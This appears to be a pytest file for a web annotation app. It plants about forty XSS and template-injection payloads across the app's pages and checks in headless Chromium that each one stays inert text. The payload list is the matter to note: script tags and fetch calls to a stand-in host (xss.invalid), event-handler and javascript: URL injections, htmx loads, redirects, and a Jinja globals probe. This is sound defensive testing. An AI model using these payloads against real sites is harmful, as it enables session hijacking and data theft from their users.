"""XSS in the real browser (Debian's Chromium, headless) against a live server: payloads placed in prompts,
responses, rationales, guideline text, user names and project names, then every page that shows them is
opened as the people who see them. No dialog opens, no request leaves for another origin, no script runs
(nothing sets window.__xss), no template is evaluated, and the CSP never had to stop an injected script."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.orm import Session, sessionmaker

from app.accounts import service as accounts_service
from app.accounts.models import Role
from app.config import Settings
from app.db import utcnow
from app.guidelines import service as guidelines_service
from app.main import create_app
from tests.browser import CHROMIUM, serve, snapshot_on_failure, watched_page
from tests.factories import (
    make_guideline_version,
    make_judgement,
    make_pair_item,
    make_project,
    make_user_without_password,
)

sync_api = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed")

EVIL = "http://xss.invalid"
PAYLOADS = [
    "<script>window.__xss=1</script>",
    f'<script src="{EVIL}/a.js"></script>',
    "<script>fetch('http://xss.invalid/x')</script>",
    '<img src=x onerror="window.__xss=2">',
    "<img src=x:x onerror=alert(3)>",
    f'<img src="{EVIL}/p.png">',
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    '<svg><a xlink:href="javascript:alert(6)"><text>t</text></a></svg>',
    "[click](javascript:alert(7))",
    "[click](JaVaScRiPt:alert(8))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(10)">a</a>',
    '<a href="data:text/html,<script>alert(11)</script>">d</a>',
    f'<div hx-get="{EVIL}/h" hx-trigger="load">h</div>',
    '<div hx-on:htmx:load="alert(12)" hx-trigger="load">o</div>',
    '<div hx-on::load="window.__xss=13">p</div>',
    "{{ 7*191 }}",
    "${7*191} #{7*191} <%= 7*191 %>",
    "{{ self.__init__.__globals__ }}{% print(7*191) %}",
    f"<style>body{{background:url({EVIL}/s.png)}}</style>",
    f'<div style="background:url({EVIL}/d.png)">s</div>',
    f"<link rel=stylesheet href={EVIL}/c.css>",
    '<iframe src="javascript:alert(14)"></iframe>',
    f'<iframe src="{EVIL}/f"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    '"><script>alert(15)</script>',
    "'><img src=x onerror=alert(16)>",
    "</textarea><script>alert(17)</script>",
    "</title><script>alert(18)</script>",
    "</script><script>alert(19)</script>",
    "<body onload=alert(20)>",
    "<input autofocus onfocus=alert(21)>",
    "<details open ontoggle=alert(22)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(23)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(24)>">',
    f"![pixel]({EVIL}/md.png)",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
    f'<base href="{EVIL}/">',
    "<video><source onerror=alert(25)></video><audio src=x onerror=alert(26)>",
    "\u2028<script>alert(27)</script>",
]
EVALUATED = "1337"  # 7*191: what any of the template payloads would print if evaluated


@dataclass(frozen=True)
class Seeded:
    base: str
    project_id: int
    version_id: int
    admin: str
    annotator: str


def _seed(db: Session) -> tuple[int, int, str, str]:
    admin = make_user_without_password(db, Role.ADMIN)
    admin.display_name = PAYLOADS[3][:120]
    annotator = make_user_without_password(db)
    annotator.display_name = PAYLOADS[0]
    voters = [make_user_without_password(db) for _ in PAYLOADS[:12]]
    for voter, payload in zip(voters, PAYLOADS, strict=False):
        voter.display_name = payload[:120]
    everything = "\n\n".join(PAYLOADS)
    project = make_project(db, name=("<img src=x onerror=alert(99)>" + PAYLOADS[17])[:120],
                           description=everything, overlap_k=len(voters), members=[annotator, *voters])
    for payload in PAYLOADS[:6]:  # more projects, named after payloads, for the project list
        make_project(db, name=payload[:120])
    judged = make_pair_item(db, project, everything, a="\n".join(PAYLOADS), b=everything)
    for index, voter in enumerate(voters):
        rationale = "\n".join(PAYLOADS[index * 4:(index + 1) * 4]) or everything
        make_judgement(db, judged, voter, "a", 1, rationale=rationale, flags=["hallucination"], seconds=3.0)
    make_pair_item(db, project, everything, a=everything, b="\n".join(reversed(PAYLOADS)))
    version = make_guideline_version(db, project, admin, body=everything, summary=PAYLOADS[1])
    guidelines_service.acknowledge(db, project_id=project.id, version_id=version.id, user=annotator,
                                   now=utcnow())
    admin_cookie, annotator_cookie = (accounts_service.start_session(db, user=u, now=utcnow(), hours=1)
                                      for u in (admin, annotator))
    return project.id, version.id, admin_cookie, annotator_cookie


@pytest.fixture
def seeded(committed: sessionmaker[Session], settings: Settings) -> Iterator[Seeded]:
    with committed() as db, db.begin():
        project_id, version_id, admin, annotator = _seed(db)
    with serve(create_app(settings, session_factory=committed)) as base:
        yield Seeded(base, project_id, version_id, admin, annotator)


def _visit(browser: Any, seeded: Seeded, cookie: str, paths: list[str], shots: Path) -> list[str]:
    page, watch = watched_page(browser, seeded.base, cookie)
    failures = []
    for path in paths:
        with snapshot_on_failure(page, shots, path):
            response = page.goto(seeded.base + path)
            page.wait_for_load_state("networkidle")
            if path.endswith("/annotate"):
                page.keyboard.press("g")  # the guidelines overlay renders the guideline text too
                page.wait_for_timeout(200)
            state = page.evaluate("() => [window.__xss, document.body.innerText]")
            problems = list(watch.problems)
            watch.problems.clear()
            if response is None or response.status != 200:
                problems.append(f"status {response.status if response else None}")
            if state[0] is not None:
                problems.append(f"window.__xss = {state[0]}")
            if EVALUATED in state[1]:
                problems.append("a template payload was evaluated")
            if problems:
                page.screenshot(path=str(shots / f"{path.replace('/', '_')}.png"), full_page=True)
                failures.append(f"{path}: {problems} (screenshot in {shots})")
    page.context.close()
    return failures


def test_payloads_stay_inert_on_every_page(browser: Any, seeded: Seeded, tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 30
    p = f"/projects/{seeded.project_id}"
    admin_pages = ["/projects", p, f"{p}/edit", "/admin/users", f"{p}/dashboard", f"{p}/annotators",
                   f"{p}/guidelines", f"{p}/guidelines/versions/{seeded.version_id}", f"{p}/gold",
                   "/admin/audit", f"{p}/audit", f"{p}/export", "/account"]
    annotator_pages = ["/projects", p, f"{p}/guidelines", f"{p}/guidelines/versions/{seeded.version_id}",
                       f"{p}/annotate"]
    failures = _visit(browser, seeded, seeded.admin, admin_pages, tmp_path)
    failures += _visit(browser, seeded, seeded.annotator, annotator_pages, tmp_path)
    assert not failures, "\n".join(failures)


def test_the_payloads_are_shown_as_text(browser: Any, seeded: Seeded) -> None:
    """Escaped, not dropped: an annotator must see what the model wrote, tags and all."""
    page, watch = watched_page(browser, seeded.base, seeded.annotator)
    page.goto(f"{seeded.base}/projects/{seeded.project_id}/annotate")
    text = page.locator("main").inner_text()
    assert "<script>window.__xss=1</script>" in text and "{{ 7*191 }}" in text
    assert page.locator("main script").count() == 0 and page.locator("main img").count() == 0
    assert page.locator("main [onerror], main [onload], main [hx-get], main iframe").count() == 0
    assert not watch.problems
    page.context.close()
